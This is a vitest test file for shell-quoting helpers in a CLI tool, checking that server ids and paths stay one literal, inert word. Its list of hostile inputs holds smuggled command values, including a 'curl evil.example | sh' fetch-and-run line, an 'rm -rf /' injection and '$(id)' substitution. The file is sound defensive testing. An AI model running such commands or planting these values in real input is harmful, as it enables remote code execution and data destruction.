// Suggested commands are pasted into shells: whatever a value holds (a server's id, a path), the
// quoted word must reach the program as exactly that value, and nothing in it may run.
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandLine, shellQuote } from '../src/text/shell.js';

/** The words a real POSIX shell makes of `line` (as `printf` receives them), never running them. */
function wordsOf(line: string): string[] {
  const r = spawnSync('sh', ['-c', `set -- ${line}; for w in "$@"; do printf '%s\\0' "$w"; done`], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`sh failed on ${line}: ${r.stderr}`);
  return r.stdout.split('\0').slice(0, -1);
}

const HOSTILE = [
  'key_1; curl -s evil.example | sh #',
  '$(id)',
  '`id`',
  "it's",
  'a"b',
  'with space',
  '',
  '*',
  '~root',
  '=ls',
  'a\\b',
  '$HOME',
  '!!',
  'x\'; rm -rf / #',
  "''",
  '--force',
  '-',
  'key_8576984ed62f',
  'crk_AbCd.,:@%+=/-_',
];

describe('shellQuote', () => {
  it('leaves plain words alone and quotes everything else', () => {
    expect(shellQuote('key_8576984ed62f')).toBe('key_8576984ed62f');
    expect(shellQuote('demo-running')).toBe('demo-running');
    expect(shellQuote('a b')).toBe("'a b'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote('')).toBe("''");
    expect(shellQuote('=ls')).toBe("'=ls'");
  });

  it('a real shell reads every hostile value back as one word, exactly, without running anything', () => {
    for (const value of HOSTILE) {
      expect(wordsOf(shellQuote(value)), JSON.stringify(value)).toEqual([value]);
    }
  });

  it('any string without NUL survives the shell unchanged (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }).filter((s) => !s.includes('\0')), (value) => {
        expect(wordsOf(shellQuote(value))).toEqual([value]);
      }),
      { numRuns: 60 },
    );
  });
});

describe('commandLine', () => {
  it('quotes each operand and keeps the command and flags as they are', () => {
    const line = commandLine({ command: ['crawl', 'keys', 'revoke'], operands: ['key_1; curl -s evil.example | sh #'], flags: ['--yes'] });
    expect(line).toBe("crawl keys revoke 'key_1; curl -s evil.example | sh #' --yes");
    expect(wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', 'key_1; curl -s evil.example | sh #', '--yes']);
  });

  it('an operand that starts with "-" comes after "--", flags first, so it cannot act as an option', () => {
    for (const id of ['--force', '-x', '--yes']) {
      const line = commandLine({ command: ['crawl', 'keys', 'revoke'], operands: [id], flags: ['--yes'] });
      expect(wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', '--yes', '--', id]);
    }
  });

  it('every hostile value stays one operand', () => {
    for (const value of HOSTILE) {
      const line = commandLine({ command: ['crawl', 'job', 'status'], operands: [value] });
      const words = wordsOf(line);
      expect(words.at(-1), JSON.stringify(value)).toBe(value);
      expect(words.slice(0, 3)).toEqual(['crawl', 'job', 'status']);
    }
  });
});
